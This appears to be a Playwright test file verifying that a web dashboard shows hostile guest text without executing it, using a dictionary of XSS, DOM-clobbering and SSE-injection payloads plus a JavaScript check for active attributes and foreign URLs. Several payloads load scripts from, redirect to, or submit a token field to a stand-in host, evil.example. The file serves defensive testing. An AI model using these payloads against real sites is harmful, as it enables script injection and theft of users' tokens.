"""All that a guest says is hostile here, and nothing of it does anything in a real browser."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import urlencode

import pytest
from playwright.sync_api import expect

from sandbox.core.records import Verdict
from tests.support.fakes.hostile_records import PAYLOADS, hostile, without_after
from tests.support.service.api_world import Api
from tests.support.service.browsers import Window, chromium, window
from tests.support.service.web_world import begun, dashboard, rehearsed, tell
from workers.queue.leases import finish
from workers.queue.values import Outcome
from workers.web.auth.tokens import Scope

MORE = {
    "event": "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;script>alert(1)//",
    "tag": "<ScRiPt src=//evil.example/x.js></sCrIpT><base href=https://evil.example/>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "</style><style>*{background:url(https://evil.example/)}</style>",
    "link": '<a href="https://evil.example" ping=//evil.example>x</a><link rel=prefetch href=//x>',
    "form": "<form action=//evil.example><input name=token autofocus onfocus=alert(1)></form>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//x>",
    "comment": "<!--><script>alert(1)</script--><noscript><p title='</noscript><img src=x "
    "onerror=alert(1)>'>",
    "sse": "x\n\nevent: end\ndata: {}\n\nid: 99999999\n\ndata: x\r\rretry: 1\r\n",
    "clobber": "<form id=live><input name=dataset></form><p id=events></p><a id=spoken></a>",
    "json": '"}\u2028alert(1)\u2029</script><script>alert(1)</script>',
}
CORPUS = {
    name: text.encode(errors="replace").decode().replace("\0", "")  # what no database stores
    for name, text in {**PAYLOADS, **MORE}.items()
}


@pytest.fixture(scope="module")
def served() -> Iterator[Api]:
    with dashboard() as one:
        yield one


@pytest.fixture(scope="module")
def seen(served: Api) -> Iterator[Window]:
    with chromium() as browser, window(browser, served) as one:
        one.enter(Scope.READ)
        yield one


# Elements and attributes that act, and addresses that lead elsewhere, as the browser has them.
FOREIGN = """() => [...document.querySelectorAll("*")].flatMap((one) => {
  const acts = ["style", "iframe", "object", "embed", "base", "frame"].includes(one.localName)
    || (one.localName === "script" && !one.getAttribute("src")?.startsWith("/static/"));
  return [...one.attributes].filter(({ name, value }) => {
    if (/^on|^(style|srcdoc|ping|formaction|http-equiv)$/i.test(name)) return true;
    if (!/(^|:)(href|src|action)$/i.test(name)) return false;
    const to = new URL(value, document.baseURI);
    return to.origin !== location.origin && !value.startsWith("data:image/png;base64,");
  }).map(({ name, value }) => `${one.localName} ${name}=${value.slice(0, 80)}`)
    .concat(acts ? [one.localName] : []);
})"""


def nothing_happened(seen: Window) -> None:
    seen.require_well()
    assert seen.page.evaluate(FOREIGN) == []


@pytest.mark.parametrize("name", CORPUS)
def test_what_a_guest_says_does_nothing(seen: Window, served: Api, name: str) -> None:
    text = CORPUS[name]
    record = hostile(text)
    for one in (record, without_after(record)):
        guest = f"{text}{one is record}"[:2000]
        run_id = rehearsed(served, one, guest, scenario=text[:2000], said=text)
        seen.go(f"/runs/{run_id}")
        expect(seen.page.get_by_role("heading", level=1)).to_be_visible()
        seen.page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        nothing_happened(seen)
    asked = guest[:255].strip()
    seen.go(f"/checks?{urlencode({'guest': asked})}")
    nothing_happened(seen)
    assert seen.page.locator("tbody tr").count() == (asked == guest)
    for path in ("/", "/runs"):
        seen.go(path)
        nothing_happened(seen)


def test_what_a_guest_says_does_nothing_while_it_is_watched(seen: Window, served: Api) -> None:
    held = begun(served, CORPUS["event"])
    seen.go(f"/runs/{held.run_id}")
    rows = seen.page.locator("#events tr")
    before = rows.count()
    for text in CORPUS.values():
        for kind in ("phase", "phase-end", "detail", "check", "state"):
            tell(served, held, kind, text, 50.0)
    expect(rows).to_have_count(min(200, before + 5 * len(CORPUS)))
    nothing_happened(seen)
    expect(seen.page.locator("#live")).to_have_count(1)
    finish(served.there.database, held, Outcome(Verdict.FAIL, CORPUS["script"]))
    expect(seen.page.locator("#live")).to_have_count(0)
    nothing_happened(seen)
